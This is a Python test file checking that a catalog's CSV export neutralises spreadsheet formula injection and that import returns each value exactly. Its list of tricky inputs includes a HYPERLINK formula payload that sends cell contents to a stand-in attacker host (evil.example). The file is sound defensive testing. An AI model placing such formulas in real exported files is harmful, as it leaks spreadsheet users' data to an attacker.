"""The product CSV's cells: no cell of an export starts a spreadsheet formula, and the
import gives back exactly the value the export wrote, whatever it is."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.csv_columns import COLUMNS, FORMULA_START, cell_for_export, cell_from_import
from catalog.importing import ImportReport, _parse, _records

# Values a spreadsheet would run, and values that merely look like what the export writes.
TRICKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a value that really starts with a quote before a formula character
    "''+1",
    "'-",
    "'",
    "''",
    "'plain",
    "plain'",
    "-",
    "=",
    "a=b",
    " leading space",
    "trailing space ",
    "' ",
    "'\t",
    "\n=x",
    "ordinary name",
]


def _read_back(values: list[str]) -> list[str]:
    """Write ``values`` as the name and description of rows, as the export writes them, and
    read the file with the importer's own reader; return the names read."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMNS)
    for number, value in enumerate(values):
        cells = dict.fromkeys(COLUMNS, "") | {
            "sku": f"SKU-{number}",
            "name": value,
            "description": value,
            "price": "1.00",
        }
        writer.writerow([cell_for_export(cells[column]) for column in COLUMNS])
    report = ImportReport(file_name="t.csv")
    rows = [
        _parse(line, cells, report)
        for line, cells in _records(io.BytesIO(buffer.getvalue().encode()), report, [0])
    ]
    assert report.errors == []
    assert all(row.name == row.description for row in rows)
    return [row.name for row in rows]


@pytest.mark.parametrize("value", TRICKY)
def test_no_exported_cell_starts_a_formula_and_import_gives_the_value_back(value):
    cell = cell_for_export(value)

    assert cell[:1] not in FORMULA_START
    assert cell_from_import(cell) == value


def test_a_file_of_tricky_values_reads_back_exactly():
    assert _read_back(TRICKY) == TRICKY


# The same 300 examples on every run (derandomize): a random draw could find a new case
# on one CI run and not the next; a value that fails belongs in TRICKY above.
@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.text(
        st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
        min_size=1,
        max_size=200,
    )
)
def test_every_name_survives_export_and_import(value):
    assert cell_for_export(value)[:1] not in FORMULA_START
    assert _read_back([value]) == [value]


def test_a_hand_written_quoted_cell_reads_as_a_spreadsheet_shows_it():
    assert cell_from_import("  '=1+1 ") == "=1+1"
    assert cell_from_import("  plain  ") == "plain"
    assert cell_from_import("'plain") == "'plain"
